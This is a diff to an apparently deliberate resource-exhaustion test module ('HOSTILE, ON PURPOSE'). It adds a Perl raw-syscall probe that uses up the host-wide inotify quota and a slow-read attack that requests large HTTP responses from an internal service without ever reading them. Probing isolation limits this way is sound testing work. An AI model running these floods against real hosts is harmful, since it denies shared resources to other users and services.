@@ -1,10 +1,11 @@
-import { spawn, type ChildProcess } from 'node:child_process'
+import { execFile, spawn, type ChildProcess } from 'node:child_process'
 import { Resolver } from 'node:dns/promises'
 import { rm, writeFile } from 'node:fs/promises'
 import { connect, type Socket } from 'node:net'
 import { tmpdir } from 'node:os'
 import { join } from 'node:path'
 import { setTimeout as sleep } from 'node:timers/promises'
+import { promisify } from 'node:util'
 
 import type { Flooded, FloodTarget, Outcome } from './instruction.ts'
 
@@ -12,6 +13,9 @@ const wantedProcesses = 150
 const wantedMegabytes = 400
 const wantedDiskMegabytes = 128
 const wantedConnections = 300
+const wantedWatches = 64
+const wantedAnswers = 16
+const answerBytes = 5_000_000
 
 /** HOSTILE, ON PURPOSE: takes of one thing as much as it gets; it has got it when that was more than a box gives. */
 export async function flood(of: Flooded, forMs: number, target: FloodTarget): Promise<Outcome> {
@@ -39,6 +43,10 @@ export async function flood(of: Flooded, forMs: number, target: FloodTarget): Pr
       return names(until, target.server)
     case 'connections':
       return connections(forMs, target)
+    case 'watches':
+      return watches(forMs)
+    case 'slow reads':
+      return slowReads(forMs, target)
   }
 }
 
@@ -91,4 +99,25 @@ async function connections(forMs: number, { host = '192.0.2.1', port = 80 }: Flo
   for (const socket of sockets) socket.destroy()
   const got = open.length === wantedConnections
   return { got, code: got ? 'opened' : 'closed', evidence: `${open.length} of ${wantedConnections} connections stayed` }
+}
+
+/** Instances of inotify: the kernel counts them for each user of the host, whoever else needs some. */
+async function watches(forMs: number): Promise<Outcome> {
+  const call = process.arch === 'arm64' ? '26, 0' : '294, 0'
+  const script = `my $n = 0; for (1..${wantedWatches}) { last if syscall(${call}) < 0; $n++ } print $n; sleep ${forMs / 1_000}`
+  const { stdout } = await promisify(execFile)('/usr/bin/perl', ['-e', script])
+  const got = Number(stdout) === wantedWatches
+  return { got, code: got ? 'watching' : 'EMFILE', evidence: `${stdout} of ${wantedWatches}` }
+}
+
+/** Asks for large answers and never reads them: whoever answers may keep them meanwhile, but not for ever. */
+async function slowReads(forMs: number, { host = '192.0.2.1', port = 80 }: FloodTarget): Promise<Outcome> {
+  const body = JSON.stringify({ do: 'answer', bytes: answerBytes })
+  const head = `POST /work HTTP/1.1\r\nhost: orders.fn.internal\r\ncontent-type: application/json\r\n`
+  const sockets = Array.from({ length: wantedAnswers }, () => connect(port, host).pause())
+  for (const socket of sockets)
+    socket.on('error', () => undefined).write(`${head}content-length: ${body.length}\r\n\r\n${body}`)
+  await sleep(forMs)
+  for (const socket of sockets) socket.destroy()
+  return { got: true, code: 'unread', evidence: `${wantedAnswers} answers of ${answerBytes} bytes` }
 }
